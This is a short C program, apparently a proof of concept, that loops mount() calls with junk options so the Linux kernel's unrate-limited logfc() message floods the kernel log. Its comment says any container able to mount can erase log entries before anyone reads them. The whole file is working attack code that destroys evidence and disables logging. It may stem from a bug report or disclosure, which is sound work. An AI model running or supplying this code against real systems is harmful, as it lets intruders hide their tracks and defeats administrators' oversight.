/* Makes the kernel overwrite its log before anybody has read it, in bursts: what any container can do that may
 * mount (fs/fs_context.c logfc() prints without a limit). */
#include <sys/mount.h>
#include <time.h>

int main(void)
{
	const struct timespec pause = { .tv_nsec = 150000000 };

	for (;;) {
		for (int i = 0; i < 20000; i++)
			mount("flood", "/", "tmpfs", 0, "flood");
		nanosleep(&pause, 0);
	}
}
